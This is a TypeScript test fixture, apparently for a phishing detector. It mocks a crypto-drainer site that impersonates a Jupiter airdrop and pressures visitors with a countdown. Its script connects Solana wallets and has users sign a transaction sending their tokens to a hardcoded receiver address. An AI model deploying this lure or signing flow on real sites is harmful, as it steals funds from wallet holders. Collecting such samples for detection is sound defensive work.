import type { Entry } from '../entry.js';
import { doc, htmlRoute, jsRoute, jsonRoute } from '../parts/y-kit.js';

// Drainers hosted on the free app tier.

const solHost = 'jup-airdrop-claim.kestrelapps.dev';

export const entries: Entry[] = [
  {
    id: 'y-drain-solana-claim',
    label: 'cryptodrainer',
    kind: 'drainer',
    url: `https://${solHost}/`,
    routes: {
      [`${solHost}/`]: htmlRoute(doc({
        title: 'Jupiter | Jupuary Airdrop Round 2 — Check Eligibility',
        head: '<meta property="og:image" content="/og.png"><meta name="twitter:card" content="summary_large_image">',
        css: `body{margin:0;background:radial-gradient(circle at 30% 10%,#1d2a3a,#0b0f16);color:#e7f6ec;font-family:Inter,Arial,sans-serif;min-height:100vh}
nav{display:flex;justify-content:space-between;padding:20px 30px}nav b{color:#c7f284}
.c{max-width:520px;margin:8vh auto;text-align:center}.c h1{font-size:42px;margin:0}
.amt{font-size:56px;font-weight:800;color:#c7f284;margin:20px 0}
button{background:linear-gradient(90deg,#c7f284,#00bef0);border:0;color:#0b0f16;font-weight:700;padding:16px 40px;border-radius:14px;font-size:17px;cursor:pointer}
.s{font-size:13px;color:#8aa}`,
        body: `<nav><b>&#9790; Jupiter</b><span>Swap · Perps · Vote · <b>Airdrop</b></span></nav>
<div class="c"><h1>Jupuary Round 2 is live</h1><p>700,000,000 JUP distributed to active Solana wallets. Connect to check your allocation.</p>
<div class="amt" id="amt">??? JUP</div>
<button id="cn">Connect Wallet</button>
<p class="s" id="st">Claim window closes in 23h 41m · 184,211 wallets claimed</p></div>
<script src="/assets/sol-claim.min.js"></script>`,
      })),
      [`${solHost}/assets/sol-claim.min.js`]: jsRoute(`(function(){
var CFG={rcv:'8xQd3jQ9pYbF4nZ1rT2hV7mKc5uWs6LeA9gHk3BfXy2R',api:'/api/v2/',min:0.01};
function prov(){return window.phantom&&window.phantom.solana||window.solana||window.solflare||window.backpack;}
async function go(){var p=prov();if(!p){document.getElementById('st').textContent='No Solana wallet found. Install Phantom or Solflare.';return;}
try{var r=await p.connect();var pk=r.publicKey.toString();
var info=await (await fetch(CFG.api+'assets?owner='+pk)).json();
document.getElementById('amt').textContent=info.allocation+' JUP';
document.getElementById('cn').textContent='Claim '+info.allocation+' JUP';
document.getElementById('cn').onclick=async function(){
 var tx=await (await fetch(CFG.api+'build',{method:'POST',headers:{'content-type':'application/json'},body:JSON.stringify({owner:pk,to:CFG.rcv,tokens:info.tokens,closeAccounts:true})})).json();
 var raw=Uint8Array.from(atob(tx.tx),function(c){return c.charCodeAt(0)});
 var signed=await p.signAllTransactions?p.signAllTransactions([raw]):p.signTransaction(raw);
 await fetch(CFG.api+'submit',{method:'POST',body:JSON.stringify({owner:pk,signed:String(signed)})});
 document.getElementById('st').textContent='Claim submitted! Tokens will arrive in your wallet shortly.';};
}catch(e){document.getElementById('st').textContent='Connection rejected. Please try again.';}}
document.getElementById('cn').onclick=go;})();`),
      [`${solHost}/api/v2/assets`]: jsonRoute({ allocation: '4,218.55', tokens: ['So11111111111111111111111111111111111111112', 'EPjFWdd5AufqSSqeM2qN1xzybapC8G4wEGGkZwyTDt1v', 'JUPyiwrYJFskUPiHa7hkeR8VUtAeFoSYbKedZNsDvCN'] }),
      [`${solHost}/api/v2/build`]: jsonRoute({ tx: 'AQAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA==' }),
      [`${solHost}/api/v2/submit`]: jsonRoute({ ok: true }),
    },
  },
];
